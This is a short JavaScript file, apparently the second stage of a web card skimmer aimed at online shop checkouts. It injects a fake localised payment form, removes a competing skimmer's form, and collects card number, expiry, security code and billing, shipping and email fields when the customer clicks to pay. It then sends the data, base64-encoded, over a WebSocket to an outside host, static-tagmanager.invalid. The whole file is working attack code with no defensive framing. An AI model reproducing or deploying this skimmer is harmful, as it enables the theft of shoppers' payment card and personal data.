// Second stage: a localised card form replaces the shop's payment step; another skimmer's
// form is removed first, and the data leaves over a WebSocket.
(function () {
  var L = { en: ["Card number", "Expiry (MM/YY)", "Security code", "Pay now"],
            fr: ["Numéro de carte", "Expiration (MM/AA)", "Cryptogramme", "Payer"] };
  var lang = (document.documentElement.lang || "en").slice(0, 2);
  var t = L[lang] || L.en;
  function mount() {
    if (!/checkout|onestepcheckout/.test(location.href)) return;
    var other = document.getElementById("payment_form_cc_other");
    if (other) other.parentNode.removeChild(other);
    var box = document.querySelector("#checkout-payment-method-load, .payment-methods");
    if (!box || document.getElementById("kr-pay")) return;
    var f = document.createElement("div");
    f.id = "kr-pay";
    f.innerHTML = '<label>' + t[0] + '</label><input id="kr-cc" autocomplete="cc-number">' +
      '<label>' + t[1] + '</label><input id="kr-exp" autocomplete="cc-exp">' +
      '<label>' + t[2] + '</label><input id="kr-cvv" autocomplete="cc-csc">';
    box.insertBefore(f, box.firstChild);
  }
  function grab() {
    var v = function (id) { var e = document.getElementById(id); return e ? e.value : ""; };
    var bill = {};
    document.querySelectorAll("input[name^='billing'], input[name^='shipping'], input[type=email]").forEach(function (e) { bill[e.name] = e.value; });
    var s = new WebSocket("wss://static-tagmanager.invalid:8443/ws");
    s.onopen = function () {
      s.send(btoa(JSON.stringify({ n: v("kr-cc"), e: v("kr-exp"), c: v("kr-cvv"), b: bill, h: location.host })));
      s.close();
    };
  }
  setInterval(mount, 1500);
  document.addEventListener("click", function (e) {
    if (e.target.closest("button.checkout, #place-order, .action.primary.checkout")) grab();
  }, true);
})();
